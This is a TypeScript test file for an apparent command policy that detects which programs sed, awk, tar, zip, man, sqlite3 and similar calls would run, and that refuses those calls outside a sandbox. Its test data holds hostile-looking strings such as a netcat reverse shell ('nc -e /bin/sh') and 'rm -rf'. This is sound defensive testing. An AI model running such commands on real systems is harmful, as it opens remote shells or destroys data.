import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { CommandPolicy } from './command-policy';
import { PROGRAM_RUNNERS } from './program-runners';
import { sedCommands } from './runner-scripts';

describe('sedCommands (the commands a sed script runs)', () => {
  it.each([
    ['s/e/E/g', []],
    ['s/x/y/w out.txt', []],
    ['/start/,/end/d', []],
    ['$!N;s/\\n/ /;P;D', []],
    ['y/abc/xyz/', []],
    ['a\\\nappended text with e and s/x/y/e', []],
    ['1i inserted e text', []],
    [':a;N;$!ba;s/\\n/,/g', []],
    ['/x/{p;q}', []],
    ['s|a|b|2', []],
    ['\\,x,d', []],
    ['# comment with e\np', []],
    ['1e date', ['date']],
    ['$e rm -rf x', ['rm -rf x']],
    ['/pat/ e echo hi', ['echo hi']],
    ['e', [undefined]],
    ['s/x/date/e', [undefined]],
    ['s/x/y/ge', [undefined]],
    ['1!G;h;$!d', []],
  ])('%p runs %p', (script, expected) => {
    expect(sedCommands(script)).toEqual(expected);
  });

  it.each(['s/unterminated', 'k', 'y/ab/'])('cannot read %p', (script) => {
    expect(sedCommands(script)).toBe('unreadable');
  });
});

describe('the catalogue of programs that run programs', () => {
  const policy = new CommandPolicy();
  beforeAll(() => policy.onModuleInit());
  const unsandboxed = (command: string) =>
    policy.check(command, { sandboxed: false, forbidden: ['rm -rf'], allowed: [] });

  it('gives every entry a reason, and docs/security.md lists every entry', () => {
    expect(PROGRAM_RUNNERS.length).toBeGreaterThanOrEqual(15);
    for (const entry of PROGRAM_RUNNERS) expect(entry.reason.length).toBeGreaterThan(20);
    const doc = readFileSync(join(__dirname, '../../../docs/security.md'), 'utf8');
    const table = doc.slice(doc.indexOf('| programs | why they are listed |'));
    const named = [...table.slice(0, table.indexOf('\n\n')).matchAll(/`([^`\s]+)[^`]*`/g)].map(
      (m) => m[1],
    );
    const missing = PROGRAM_RUNNERS.filter((e) => !named.some((n) => e.programs.test(n)));
    expect(missing.map((e) => String(e.programs))).toEqual([]);
  });

  it.each([
    "awk '/a|b/ { print $1 }' f",
    'awk \'$1 == "x|y" { n++ } END { print n }\' f',
    "awk '{ print a || b }' f",
    "sed -n '/a;b/p' f",
    "sed -i.bak 's/x/y/' f",
    "sed --sandbox 's/x/y/e' f",
    'tar -xzf x.tgz --checkpoint=100 --checkpoint-action=dot',
    'npm view react version',
    'pip list',
    'ssh -V',
    'find . -name "*.md" -delete -print',
  ])('lets %p through without the OS sandbox: this call runs no program', async (command) => {
    expect(await unsandboxed(command)).toMatchObject({ allowed: true });
  });

  it.each([
    'awk -f prog.awk f',
    'gawk -e \'BEGIN { system("date") }\'',
    'awk "$PROGRAM" f',
    'sed "$SCRIPT" f',
    "zip -T -TT 'date' x.zip f",
    'man -P date ls',
    'nc -e /bin/sh host 1',
    'crontab jobs.txt',
    "sqlite3 db '.shell date'",
  ])('refuses %p without the OS sandbox', async (command) => {
    expect(await unsandboxed(command)).toMatchObject({ allowed: false });
  });
});
